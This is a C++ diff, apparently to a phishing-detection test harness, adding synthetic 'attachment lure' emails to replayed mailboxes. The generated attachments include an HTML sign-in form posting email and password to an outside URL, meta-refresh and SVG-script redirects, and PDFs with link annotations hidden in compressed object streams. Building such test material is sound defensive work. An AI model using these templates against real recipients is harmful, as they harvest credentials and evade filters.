@@ -24,6 +24,7 @@
 
 #include <fmt/format.h>
 #include <unistd.h>
+#include <zlib.h>
 
 #include <algorithm>
 #include <cstdio>
@@ -98,6 +99,8 @@ enum class Kind {
   kHijackVaried,
   kLateralVaried,
   kHijackWide,  // BuildHijackWide, played apart with a generator of its own
+  // Played apart too (BuildAttachmentLure): the lure only in an attachment.
+  kAttachmentLure,
   kCount
 };
 // The kinds drawn at random for the injected attacks.
@@ -122,6 +125,7 @@ constexpr const char* kKindNames[] = {
     "  thread hijack by a participant, varied",
     "  compromised colleague, varied (25-35, hidden)",
     "  thread hijack by a participant, wide",
+    "lure only in an attached page or PDF",
 };
 static_assert(std::size(kKindNames) == static_cast<size_t>(Kind::kCount));
 
@@ -572,6 +576,37 @@ std::string RawMessage(const std::string& id, int64_t clock, const std::string& 
   return RawMessage(id, clock, from, to, subject, extra, BodyFormat::kHtml, html);
 }
 
+// `data` in base64, in lines of 76 characters, each ending in a newline.
+std::string Base64Lines(std::string_view data) {
+  static constexpr char kAlphabet[] =
+      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+  std::string out;
+  for (size_t i = 0; i < data.size(); i += 3) {
+    uint32_t group = static_cast<unsigned char>(data[i]) << 16;
+    if (i + 1 < data.size()) group |= static_cast<unsigned char>(data[i + 1]) << 8;
+    if (i + 2 < data.size()) group |= static_cast<unsigned char>(data[i + 2]);
+    for (size_t k = 0; k < 4; ++k) {
+      out.push_back(i + k <= data.size() ? kAlphabet[(group >> (18 - 6 * k)) & 63] : '=');
+    }
+    if ((i / 3 + 1) % 19 == 0) out.push_back('\n');
+  }
+  if (out.empty() || out.back() != '\n') out.push_back('\n');
+  return out;
+}
+
+// A PDF 1.5 file whose one object, `object`, is packed in a Flate-compressed
+// object stream, as most PDF generators now write annotations.
+std::string ObjectStreamPdf(const std::string& object) {
+  const std::string packed = "2 0 " + object;
+  uLongf size = compressBound(packed.size());
+  std::string deflated(size, '\0');
+  compress(reinterpret_cast<Bytef*>(deflated.data()), &size,
+           reinterpret_cast<const Bytef*>(packed.data()), packed.size());
+  deflated.resize(size);
+  return "%PDF-1.5\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length " +
+         std::to_string(size) + " >>\nstream\n" + deflated + "\nendstream\nendobj\n%%EOF\n";
+}
+
 // The multi-tenant platforms of the new-tenant family, each tenant owned by
 // whoever opened it, in every form their links take: {t} is the tenant
 // (the bucket, site, account or project), {f} a file. Where the tenant is a
@@ -616,6 +651,7 @@ constexpr int kTenantAttacksPerMailbox = 10;
 constexpr int kRegistrableLookalikesPerMailbox = 14;  // two of each technique
 constexpr int kVariedAttacksPerMailbox = 5;           // of each varied kind
 constexpr int kWideHijacksPerMailbox = 18;            // two of each lure
+constexpr int kAttachmentLuresPerMailbox = 16;        // two of each sender and attachment
 
 // Builds attacks of each kind from a MailboxState, which it marks used.
 class AttackBuilder {
@@ -649,17 +685,8 @@ class AttackBuilder {
       }
       case Kind::kFirstContactBcc:
       case Kind::kFirstContactBccOwnDomain: {
-        // A first contact each time: never a domain an earlier attack used.
-        std::string domain;
-        for (int tries = 0; domain.empty() || !used_domains_.insert(domain).second; ++tries) {
-          domain = std::string(Pick(kSurnames, rng_)) + "-" + std::string(Pick(kFirms, rng_)) +
-                   ((*rng_)() % 2 ? "" : "-" + std::string(Pick(kCities, rng_))) +
-                   (tries < 20 ? "" : "-" + Hex(rng_, 4)) + ".com";
-        }
-        const std::string first(Pick(kFirstNames, rng_));
-        const std::string address = std::string(1, static_cast<char>(std::tolower(first[0]))) +
-                                    std::string(Pick(kSurnames, rng_)) + "@" + domain;
-        from = Named(first + " " + NameFromAddress(std::string(Pick(kSurnames, rng_))), address);
+        std::string address, domain;
+        from = FirstContact(&address, &domain);
         out->rcpt_to = state_->Staff(3 + (*rng_)() % 4, rng_);
         if (out->rcpt_to.size() < 3) return false;  // "several staff at once"
         to = (*rng_)() % 2 ? "undisclosed-recipients:;" : address;
@@ -829,6 +856,7 @@ class AttackBuilder {
         break;
       case Kind::kRegistrableLookalike:  // BuildRegistrableLookalike()
       case Kind::kHijackWide:            // BuildHijackWide()
+      case Kind::kAttachmentLure:        // BuildAttachmentLure()
       case Kind::kCount:
         return false;
     }
@@ -1240,7 +1268,105 @@ class AttackBuilder {
       "transposition", "digit for a letter", "confusable letters (rn, vv, cl)", "hyphenated word",
       "added word",    "other TLD",          "typo, word and other TLD"};
 
+  // An attack whose body is a short note with no link, and whose lure is
+  // in an attachment: a sign-in page posting a form, a page that sends the
+  // browser on by itself (refresh or script), or a PDF with a link (written
+  // plainly or, as most PDF generators now write it, in a compressed object
+  // stream). From a first contact, or from an established correspondent
+  // (a compromised vendor) for odd `index`; the attachment's kind in turn.
+  bool BuildAttachmentLure(size_t index, int64_t clock, int serial, Attack* out) {
+    out->kind = Kind::kAttachmentLure;
+    out->direction = Direction::kInbound;
+    out->rcpt_to = state_->Staff(1 + (*rng_)() % 3, rng_);
+    if (out->rcpt_to.empty()) return false;
+    std::string to;
+    for (const std::string& s : out->rcpt_to) to += (to.empty() ? "" : ", ") + s;
+    std::string from, sender;
+    if (index % 2 == 1) {
+      // Not marked used (EstablishedSender), so that the random kinds draw
+      // their vendors as they did before this family.
+      const Correspondent* vendor = state_->KnownSender(rng_);
+      if (vendor == nullptr) return false;
+      from = Named(vendor->display_name, vendor->address);
+      sender = "sender: known vendor";
+    } else {
+      std::string address, domain;
+      from = FirstContact(&address, &domain);
+      sender = "sender: first contact";
+    }
+    const std::string word(Pick(kWords, rng_));
+    const std::string url = (*rng_)() % 2 ? FileshareUrl(rng_) : NewDomainUrl(rng_);
+    std::string document, filename, content_type, content;
+    switch ((index / 2) % 4) {
+      case 0:
+        document = "page: sign-in form";
+        filename = word + "_" + Hex(rng_, 4) + ".html";
+        content_type = (*rng_)() % 2 ? "text/html" : "application/octet-stream";
+        content = "<html><body><h3>Sign in to view the " + word + "</h3><form method=\"post\" " +
+                  "action=\"" + url + "\"><input name=\"email\"><input type=\"password\" " +
+                  "name=\"pass\"><button>View</button></form></body></html>";
+        break;
+      case 1:
+        document = "page: redirect";
+        if ((*rng_)() % 2) {
+          filename = word + ".htm";
+          content_type = "application/octet-stream";
+          content = "<html><head><meta http-equiv=\"refresh\" content=\"0; url=" + url +
+                    "\"></head><body>Loading...</body></html>";
+        } else {
+          filename = word + ".svg";
+          content_type = "image/svg+xml";
+          content = "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>window.location.href = \"" +
+                    url + "\";</script></svg>";
+        }
+        break;
+      case 2:
+        document = "PDF: link";
+        filename = word + "-" + Hex(rng_, 6) + ".pdf";
+        content_type = "application/pdf";
+        content = "%PDF-1.4\n1 0 obj\n<< /Type /Annot /Subtype /Link /Rect [72 600 300 630] " +
+                  std::string("/A << /S /URI /URI (") + url + ") >> >>\nendobj\n%%EOF\n";
+        break;
+      default:
+        document = "PDF: link in an object stream";
+        filename = word + "-" + Hex(rng_, 6) + ".pdf";
+        content_type = "application/pdf";
+        content = ObjectStreamPdf("<< /Type /Annot /Subtype /Link /A << /S /URI /URI (" + url +
+                                  ") >> >>");
+        break;
+    }
+    const std::string subject = "Your " + word + " document";
+    out->raw =
+        "Message-ID: <attachment-lure." + std::to_string(serial) + "." + Hex(rng_, 8) +
+        "@mail.invalid>\nDate: " + DateHeader(clock) + "\nFrom: " + from + "\nTo: " + to +
+        "\nSubject: " + subject +
+        "\nMime-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"=_lure\"\n\n"
+        "--=_lure\nContent-Type: text/plain; charset=us-ascii\n\nHello,\n\nPlease find the " +
+        word + " attached.\n\nRegards\n--=_lure\nContent-Type: " + content_type + "; name=\"" +
+        filename + "\"\nContent-Disposition: attachment; filename=\"" + filename +
+        "\"\nContent-Transfer-Encoding: base64\n\n" + Base64Lines(content) + "--=_lure--\n";
+    out->variants = {sender, document};
+    out->summary = fmt::format("{} | From: {} | {} | {}",
+                               kKindNames[static_cast<size_t>(out->kind)], from, filename, url);
+    return true;
+  }
+
  private:
+  // A new correspondent's From header, its address and its domain: a first
+  // contact each time, never on a domain an earlier attack used.
+  std::string FirstContact(std::string* address, std::string* domain) {
+    domain->clear();
+    for (int tries = 0; domain->empty() || !used_domains_.insert(*domain).second; ++tries) {
+      *domain = std::string(Pick(kSurnames, rng_)) + "-" + std::string(Pick(kFirms, rng_)) +
+                ((*rng_)() % 2 ? "" : "-" + std::string(Pick(kCities, rng_))) +
+                (tries < 20 ? "" : "-" + Hex(rng_, 4)) + ".com";
+    }
+    const std::string first(Pick(kFirstNames, rng_));
+    *address = std::string(1, static_cast<char>(std::tolower(first[0]))) +
+               std::string(Pick(kSurnames, rng_)) + "@" + *domain;
+    return Named(first + " " + NameFromAddress(std::string(Pick(kSurnames, rng_))), *address);
+  }
+
   // A lure: subject (or, in a reply, nothing) and the sentence before the link.
   struct Lure {
     std::string_view subject;
@@ -2092,6 +2218,24 @@ Status RunMailbox(const std::string& path, const std::map<std::string, double>& 
     });
   };
 
+  // The attachment-lure family, likewise with a generator of its own, from
+  // 40% of the mailbox on (a vendor must be established by then).
+  std::mt19937_64 attachment_rng(*rng);
+  attachment_rng.seed(attachment_rng() ^ 0xa77ac4);
+  AttackBuilder attachment_builder(&state, &attachment_rng);
+  std::vector<size_t> attachment_at;
+  for (int i = 0; i < kAttachmentLuresPerMailbox; ++i) {
+    attachment_at.push_back(total * 2 / 5 + attachment_rng() % (total * 57 / 100));
+  }
+  std::sort(attachment_at.begin(), attachment_at.end());
+  size_t next_attachment = 0;
+  int attachment_serial = 0;  // apart from `serial`, so that other attacks keep their ids
+  auto play_attachment_lures = [&](int64_t clock) -> Status {
+    return play_due(attachment_at, &next_attachment, clock, [&](size_t index, Attack* attack) {
+      return attachment_builder.BuildAttachmentLure(index, clock, ++attachment_serial, attack);
+    });
+  };
+
   WalkSummary summary;
   s = WalkArchives(
       {path}, config,
@@ -2110,6 +2254,8 @@ Status RunMailbox(const std::string& path, const std::map<std::string, double>& 
         injected = play_lookalikes(archived.clock);
         if (!injected.ok()) return injected;
         injected = play_wide(archived.clock);
+        if (!injected.ok()) return injected;
+        injected = play_attachment_lures(archived.clock);
         if (!injected.ok()) return injected;
         ++visited;
         Verdict verdict;
